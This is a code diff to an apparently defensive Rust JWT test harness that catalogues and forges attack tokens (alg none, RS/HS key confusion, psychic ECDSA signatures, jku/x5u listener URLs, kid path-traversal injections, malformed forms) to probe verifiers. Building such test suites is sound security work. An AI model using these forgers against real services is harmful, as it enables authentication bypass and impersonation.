@@ -4,11 +4,15 @@
 //! Attacks are data: [`Attack`] names each one with a description and its provenance (CVE,
 //! bug type, jwt_tool mode); [`Attack::catalogue`] lists every instance; [`Attack::forge`]
 //! builds it from a [`ForgeContext`] (the victim AS key, an attacker key, a listener URL and
-//! the valid token spec `V`). Post-signing changes are [`Tamper`] steps.
+//! the valid token spec `V`). Post-signing changes are [`Tamper`] steps, usable on their own
+//! (`spec.mint_tampered(key, &[Tamper::StripSignature])` with [`TamperExt`]).
+//!
+//! No forger panics: an attack that does not fit the keys (an ECDSA attack on an RSA key, a
+//! PKCS#1 PEM of an EC key, a `kid` attack on a key without `kid`) returns [`NotApplicable`].
 
 mod tamper;
 
-pub use tamper::{Tamper, tamper};
+pub use tamper::{Tamper, TamperExt, tamper, tamper_all};
 
 use serde_json::json;
 
@@ -16,14 +20,15 @@ use crate::alg::{Algorithm, EcCurve, KeyFamily};
 use crate::der;
 use crate::ecdsa;
 use crate::jwk::JwkKey;
-use crate::jws::{self, Segment};
+use crate::jws::{self, ParseOptions, Segment};
 use crate::keys::SigningKey;
 use crate::token::TokenSpec;
 
-/// What a forger works from.
+/// What a forger works from, passed explicitly (no globals), so one process can forge for
+/// several targets and issuers at once.
 #[derive(Debug, Clone, Copy)]
 pub struct ForgeContext<'a> {
-    /// The AS key the target trusts (its `kid` is the victim kid).
+    /// The AS key the target trusts; its `kid` is the victim kid (see [`Self::victim_kid`]).
     pub victim: &'a SigningKey,
     /// A key the target must not trust (e.g. the rogue issuer's).
     pub attacker: &'a SigningKey,
@@ -33,37 +38,55 @@ pub struct ForgeContext<'a> {
     pub spec: &'a TokenSpec,
 }
 
-/// Why an attack does not apply to the given keys.
+impl ForgeContext<'_> {
+    /// The `kid` the target knows the AS key by (attacks that reuse it need one).
+    pub fn victim_kid(&self) -> Option<&str> {
+        self.victim.kid()
+    }
+}
+
+/// Why an attack does not apply to the given keys (the caller skips it, e.g. as "not
+/// applicable to the IdP's key type").
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 #[error("{attack} does not apply: {reason}")]
 pub struct NotApplicable {
+    /// [`Attack::name`] of the attack.
     pub attack: String,
+    /// What the keys lack.
     pub reason: &'static str,
 }
 
-/// Where an attack comes from.
+/// Where an attack comes from, for reports and tags.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub struct Provenance {
+    /// CVEs of implementations that accepted this stimulus.
     pub cves: &'static [&'static str],
+    /// The class of bug the stimulus detects.
     pub bug_type: &'static str,
     /// jwt_tool mode or other catalogue reference, when one exists.
     pub reference: &'static str,
 }
 
-/// Byte forms of a public key used as an HMAC secret (RS/HS confusion).
+/// Byte forms of a public key used as an HMAC secret (RS/HS confusion): a confused verifier
+/// MACs with whatever bytes it stores the key as, so each form is a separate stimulus.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum PublicKeyForm {
+    /// `-----BEGIN PUBLIC KEY-----` PEM (SPKI, LF line endings, trailing newline).
     SpkiPem,
+    /// The same PEM without its trailing newline.
     SpkiPemNoTrailingNewline,
-    /// RSA only: `-----BEGIN RSA PUBLIC KEY-----`.
+    /// RSA only: `-----BEGIN RSA PUBLIC KEY-----` (the RSAPublicKey from the SPKI BIT STRING).
     Pkcs1Pem,
+    /// SubjectPublicKeyInfo DER.
     SpkiDer,
+    /// The public JWK as compact JSON text (as published in the JWKS, `kid`/`alg`/`use` kept).
     JwkJson,
-    /// RSA: the modulus `n`; EC: the uncompressed point.
+    /// RSA: the modulus `n`; EC: the uncompressed point `04‖x‖y`; Ed25519: `x`.
     Raw,
 }
 
 impl PublicKeyForm {
+    /// Every form, in a stable order.
     pub const ALL: [PublicKeyForm; 6] = [
         PublicKeyForm::SpkiPem,
         PublicKeyForm::SpkiPemNoTrailingNewline,
@@ -77,17 +100,22 @@ impl PublicKeyForm {
 /// Which ECDSA scalar an out-of-range forgery breaks, and how.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum ScalarDefect {
+    /// r = 0, s from a valid signature.
     RIsZero,
+    /// s = 0, r from a valid signature.
     SIsZero,
+    /// r = n (the curve order), s from a valid signature.
     RIsOrder,
+    /// s = n, r from a valid signature.
     SIsOrder,
 }
 
-/// Malformed `crit` forms.
+/// `crit` forms (RFC 7515 §4.1.11), each validly signed by the victim.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum CritForm {
     /// `crit:["x-foo"]` with `x-foo:1`: an extension the verifier cannot understand.
     Unknown,
+    /// `crit:[]`.
     Empty,
     /// `crit:["alg"]`: a registered parameter.
     Registered,
@@ -98,13 +126,21 @@ pub enum CritForm {
 /// Structural defects of the compact form (spec §1.4 rs-not-a-jwt and relatives).
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Structure {
+    /// `=` padding added to the payload segment.
     Padding,
+    /// `+`/`/` substituted for `-`/`_` in a segment that has one (decoded bytes unchanged).
     StandardAlphabet,
+    /// A line break inside the payload segment.
     LineBreak,
+    /// `header.payload`.
     TwoSegments,
+    /// A fourth segment appended.
     FourSegments,
+    /// The first half of the token.
     CutInHalf,
+    /// `header..signature`.
     EmptyMiddleSegment,
+    /// Flattened JWS JSON serialization, base64url-encoded (one segment).
     JwsJsonSerialization,
     /// A 5-part string shaped like a compact JWE with an unknown key.
     JweShaped,
@@ -112,10 +148,11 @@ pub enum Structure {
     Random,
 }
 
-/// One JWT attack.
+/// One JWT attack: plain data, so checks and reports can list, name and tag them.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Attack {
-    /// `alg` set to a spelling of `none`; signature emptied or kept.
+    /// `alg` set to a spelling of `none` in a valid token's header; the signature segment is
+    /// emptied, or the original signature text is kept (payload text always kept).
     AlgNone {
         spelling: &'static str,
         keep_signature: bool,
@@ -130,6 +167,8 @@ pub enum Attack {
     HmacEmptySecret,
     /// `alg: HS256` with a guessable secret.
     HmacWeakSecret(&'static str),
+    /// `alg: HS256` with caller-given secret bytes (e.g. a wordlist read at run time).
+    HmacSecret(Vec<u8>),
     /// ECDSA r = s = 0, raw (64/96 zero bytes) or DER (`MAYCAQACAQA`).
     PsychicSignature { der: bool },
     /// ECDSA r or s outside [1, n−1].
@@ -163,7 +202,8 @@ pub enum Attack {
     KidWithOtherKeyType,
     /// RS256 ↔ PS256 with the same RSA key.
     RsaFamilySwitch,
-    /// Header `{"alg":<victim alg>,…,"alg":"none"}` with an empty signature.
+    /// Header `{"alg":<victim alg>,…,"alg":"none"}` with an empty signature; the payload text
+    /// of a valid token kept.
     DuplicateAlgNone,
     /// Claims with `aud` twice: the right audience, then another; validly signed.
     DuplicateAud { other: &'static str },
@@ -175,7 +215,8 @@ pub enum Attack {
     NestedUnsignedInner,
 }
 
-/// `kid` injection payloads (jwt_tool playbook; spec rs-kid-injection).
+/// `kid` injection payloads and the HMAC secret each is MACed with (jwt_tool playbook; spec
+/// rs-kid-injection): what the file or row the `kid` selects would hold.
 pub const KID_INJECTIONS: [(&str, &[u8]); 8] = [
     ("", b""),
     ("../../../../../../dev/null", b""),
@@ -295,6 +336,7 @@ impl Attack {
             Attack::HmacWithPublicKey(form) => format!("hs256-public-key-{form:?}"),
             Attack::HmacEmptySecret => "hs256-empty-secret".into(),
             Attack::HmacWeakSecret(s) => format!("hs256-weak-secret-{s}"),
+            Attack::HmacSecret(s) => format!("hs256-secret-{}", String::from_utf8_lossy(s)),
             Attack::PsychicSignature { der } => {
                 format!("psychic-signature{}", if *der { "-der" } else { "" })
             }
@@ -356,7 +398,9 @@ impl Attack {
                 "blank HMAC secret",
                 "jwt_tool -X b",
             ),
-            Attack::HmacWeakSecret(_) => p(&[], "weak HMAC secret", "jwt_tool jwt-common.txt"),
+            Attack::HmacWeakSecret(_) | Attack::HmacSecret(_) => {
+                p(&[], "weak HMAC secret", "jwt_tool jwt-common.txt")
+            }
             Attack::PsychicSignature { .. } | Attack::ScalarOutOfRange(_) => p(
                 &["CVE-2022-21449"],
                 "ECDSA range check missing",
@@ -388,6 +432,72 @@ impl Attack {
         }
     }
 
+    /// One line saying what the forged token is, for reports.
+    pub fn description(&self) -> String {
+        match self {
+            Attack::AlgNone {
+                spelling,
+                keep_signature,
+            } => format!(
+                "alg set to {spelling:?}, {}",
+                if *keep_signature {
+                    "original signature kept"
+                } else {
+                    "signature segment empty"
+                }
+            ),
+            Attack::SignatureStripped => "header.payload. with the original alg kept".into(),
+            Attack::SignatureBroken => "last 4 signature characters changed".into(),
+            Attack::HmacWithPublicKey(form) => {
+                format!("alg HS256, MACed with the AS public key as {form:?} bytes")
+            }
+            Attack::HmacEmptySecret => "alg HS256, MACed with an empty secret".into(),
+            Attack::HmacWeakSecret(s) => format!("alg HS256, MACed with the secret {s:?}"),
+            Attack::HmacSecret(s) => format!(
+                "alg HS256, MACed with the secret {:?}",
+                String::from_utf8_lossy(s)
+            ),
+            Attack::PsychicSignature { der: false } => "ECDSA r = s = 0 as zero bytes".into(),
+            Attack::PsychicSignature { der: true } => "ECDSA r = s = 0 as DER MAYCAQACAQA".into(),
+            Attack::ScalarOutOfRange(d) => format!("ECDSA scalar out of [1, n-1]: {d:?}"),
+            Attack::HighS => "valid ECDSA signature with s replaced by n - s".into(),
+            Attack::DerSignature => "valid ECDSA signature DER-encoded instead of R||S".into(),
+            Attack::SignatureTruncated => "ECDSA signature cut to 63 bytes".into(),
+            Attack::SignatureTrailingBytes => "valid signature plus 16 trailing bytes".into(),
+            Attack::SignatureWrongCurveSize => "96-byte (ES384-sized) signature on ES256".into(),
+            Attack::EmbeddedJwk { keep_victim_kid } => format!(
+                "header jwk = attacker key, signed by it, kid {}",
+                if *keep_victim_kid {
+                    "of the victim"
+                } else {
+                    "removed"
+                }
+            ),
+            Attack::Jku => "header jku = listener URL, signed by the attacker key".into(),
+            Attack::X5u => "header x5u = listener URL, signed by the attacker key".into(),
+            Attack::KidInjection { kid, secret } => {
+                format!("kid {kid:?}, alg HS256 MACed with {secret:?}")
+            }
+            Attack::Crit(form) => format!("crit {form:?}, validly signed"),
+            Attack::KidWithHmac => "victim kid with alg HS256 (MACed with its SPKI PEM)".into(),
+            Attack::KidWithOtherKeyType => {
+                "victim kid with an algorithm of another key type".into()
+            }
+            Attack::RsaFamilySwitch => "RS256 <-> PS256 signed with the same RSA key".into(),
+            Attack::DuplicateAlgNone => "header alg twice, the last one none; no signature".into(),
+            Attack::DuplicateAud { other } => {
+                format!("aud twice, the last one {other:?}; validly signed")
+            }
+            Attack::Malformed(s) => format!("compact form defect: {s:?}"),
+            Attack::NestedAttackerOuter => {
+                "outer JWS (cty JWT) signed by the attacker around a valid token".into()
+            }
+            Attack::NestedUnsignedInner => {
+                "outer valid JWS (cty JWT) around an unsigned inner token".into()
+            }
+        }
+    }
+
     fn not_applicable(&self, reason: &'static str) -> NotApplicable {
         NotApplicable {
             attack: self.name(),
@@ -395,7 +505,8 @@ impl Attack {
         }
     }
 
-    /// Builds the forged token.
+    /// Builds the forged token. Untouched parts of the valid token keep their exact text.
+    /// Returns [`NotApplicable`] when the keys do not fit the attack (never panics).
     pub fn forge(&self, ctx: &ForgeContext) -> Result<String, NotApplicable> {
         let victim = ctx.victim;
         let valid = || ctx.spec.mint(victim);
@@ -403,16 +514,31 @@ impl Attack {
             KeyFamily::Ec(c) => Ok(c),
             _ => Err(self.not_applicable("needs an ECDSA victim key")),
         };
-        let hmac = |spec: TokenSpec, secret: &[u8]| {
-            spec.alg("HS256")
-                .mint(&SigningKey::hmac(secret).with_kid(victim.kid().unwrap_or_default()))
+        let victim_kid = || {
+            ctx.victim_kid()
+                .ok_or_else(|| self.not_applicable("needs a victim key with a kid"))
+        };
+        // HS256 over V's claims with `secret`, under the victim's kid when it has one.
+        let hmac = |secret: &[u8]| {
+            let key = SigningKey::hmac(secret);
+            let key = match victim.kid() {
+                Some(kid) => key.with_kid(kid),
+                None => key,
+            };
+            ctx.spec.clone().alg("HS256").mint(&key)
+        };
+        // The valid token's header with `alg` replaced in place.
+        let header_with_alg = |alg: &str| {
+            let mut header = ctx.spec.final_header(victim);
+            header.set("alg", alg);
+            header
         };
         Ok(match self {
             Attack::AlgNone {
                 spelling,
                 keep_signature,
             } => {
-                let token = ctx.spec.clone().alg(spelling).mint(victim);
+                let token = tamper(&valid(), &Tamper::ReplaceHeader(header_with_alg(spelling)));
                 if *keep_signature {
                     token
                 } else {
@@ -425,13 +551,13 @@ impl Attack {
                 let secret = public_key_bytes(victim, *form).ok_or_else(|| {
                     self.not_applicable("this byte form does not exist for the key type")
                 })?;
-                hmac(ctx.spec.clone(), &secret)
+                hmac(&secret)
             }
-            Attack::HmacEmptySecret => hmac(ctx.spec.clone(), b""),
-            Attack::HmacWeakSecret(secret) => hmac(ctx.spec.clone(), secret.as_bytes()),
+            Attack::HmacEmptySecret => hmac(b""),
+            Attack::HmacWeakSecret(secret) => hmac(secret.as_bytes()),
+            Attack::HmacSecret(secret) => hmac(secret),
             Attack::PsychicSignature { der } => {
-                let len = 2 * ec_curve()?.coordinate_len();
-                let zeros = vec![0u8; len];
+                let zeros = vec![0u8; 2 * ec_curve()?.coordinate_len()];
                 let sig = if *der {
                     ecdsa::raw_to_der(&zeros)
                 } else {
@@ -441,14 +567,16 @@ impl Attack {
             }
             Attack::ScalarOutOfRange(defect) => {
                 let curve = ec_curve()?;
+                let len = curve.coordinate_len();
                 let token = valid();
-                let sig = jws::Jws::parse(&token)
-                    .expect("own token parses")
-                    .signature()
-                    .to_vec();
-                let (r, s) = sig.split_at(curve.coordinate_len());
+                let sig = jws::Jws::parse_with(&token, &ParseOptions::lenient())
+                    .ok()
+                    .map(|j| j.signature().to_vec())
+                    .filter(|sig| sig.len() == 2 * len)
+                    .ok_or_else(|| self.not_applicable("the valid token is not readable"))?;
+                let (r, s) = sig.split_at(len);
                 let n = ecdsa::curve_order(curve);
-                let zero = vec![0u8; curve.coordinate_len()];
+                let zero = vec![0u8; len];
                 let forged = match defect {
                     ScalarDefect::RIsZero => [zero.as_slice(), s].concat(),
                     ScalarDefect::SIsZero => [r, zero.as_slice()].concat(),
@@ -478,7 +606,7 @@ impl Attack {
             Attack::EmbeddedJwk { keep_victim_kid } => {
                 let spec = ctx.spec.clone().jwk(&ctx.attacker.public_jwk());
                 let spec = if *keep_victim_kid {
-                    spec.kid(victim.kid().unwrap_or_default())
+                    spec.kid(victim_kid()?)
                 } else {
                     spec.without_header("kid")
                 };
@@ -502,18 +630,17 @@ impl Attack {
                 };
                 spec.mint(victim)
             }
-            Attack::KidWithHmac => hmac(
-                ctx.spec.clone(),
-                &public_key_bytes(victim, PublicKeyForm::SpkiPem).unwrap_or_default(),
-            ),
+            Attack::KidWithHmac => {
+                victim_kid()?;
+                let secret = public_key_bytes(victim, PublicKeyForm::SpkiPem)
+                    .ok_or_else(|| self.not_applicable("needs an asymmetric victim key"))?;
+                hmac(&secret)
+            }
             Attack::KidWithOtherKeyType => {
                 if ctx.attacker.alg().key_family() == victim.alg().key_family() {
                     return Err(self.not_applicable("needs an attacker key of another key type"));
                 }
-                ctx.spec
-                    .clone()
-                    .kid(victim.kid().unwrap_or_default())
-                    .mint(ctx.attacker)
+                ctx.spec.clone().kid(victim_kid()?).mint(ctx.attacker)
             }
             Attack::RsaFamilySwitch => {
                 let other = match victim.alg() {
@@ -523,16 +650,18 @@ impl Attack {
                 };
                 ctx.spec.clone().alg(other).mint(victim)
             }
-            Attack::DuplicateAlgNone => ctx
-                .spec
-                .clone()
-                .alg(victim.alg().name())
-                .duplicate_header("alg", "none")
-                .unsigned(victim),
+            Attack::DuplicateAlgNone => {
+                let mut header = ctx.spec.final_header(victim);
+                header.push_duplicate("alg", "none");
+                tamper_all(
+                    &valid(),
+                    &[Tamper::ReplaceHeader(header), Tamper::StripSignature],
+                )
+            }
             Attack::DuplicateAud { other } => {
                 ctx.spec.clone().duplicate_claim("aud", *other).mint(victim)
             }
-            Attack::Malformed(structure) => malformed(&valid(), *structure),
+            Attack::Malformed(structure) => malformed(&valid, *structure),
             Attack::NestedAttackerOuter => {
                 let outer = json!({"alg": ctx.attacker.alg().name(), "cty": "JWT"});
                 jws::sign_raw(
@@ -553,10 +682,33 @@ impl Attack {
     }
 }
 
-fn malformed(token: &str, structure: Structure) -> String {
+/// Structural defects of a valid token (`valid` mints a fresh one on each call).
+fn malformed(valid: &dyn Fn() -> String, structure: Structure) -> String {
     let step = match structure {
         Structure::Padding => Tamper::PadSegment(Segment::Payload),
-        Structure::StandardAlphabet => Tamper::StandardAlphabet(Segment::Signature),
+        Structure::StandardAlphabet => {
+            // Only a segment holding `-` or `_` can change alphabet with its bytes unchanged.
+            // Signatures (and `jti`) are random, so a few fresh mints find one; a token with
+            // none falls back to `Tamper::StandardAlphabet`'s forced `+`.
+            let segments = [Segment::Signature, Segment::Payload, Segment::Header];
+            let mut token = valid();
+            for _ in 0..32 {
+                if token.contains(['-', '_']) {
+                    break;
+                }
+                token = valid();
+            }
+            let parts: Vec<&str> = token.split('.').collect();
+            let segment = segments
+                .into_iter()
+                .find(|&s| {
+                    parts
+                        .get(tamper::segment_index(s))
+                        .is_some_and(|p| p.contains(['-', '_']))
+                })
+                .unwrap_or(Segment::Signature);
+            return tamper(&token, &Tamper::StandardAlphabet(segment));
+        }
         Structure::LineBreak => Tamper::LineBreak,
         Structure::TwoSegments => Tamper::TwoSegments,
         Structure::FourSegments => Tamper::FourSegments,
@@ -576,7 +728,7 @@ fn malformed(token: &str, structure: Structure) -> String {
         }
         Structure::Random => return crate::random_b64url(32),
     };
-    tamper(token, &step)
+    tamper(&valid(), &step)
 }
 
 /// The public key of `key` in the given byte form (`None` where the form does not exist).
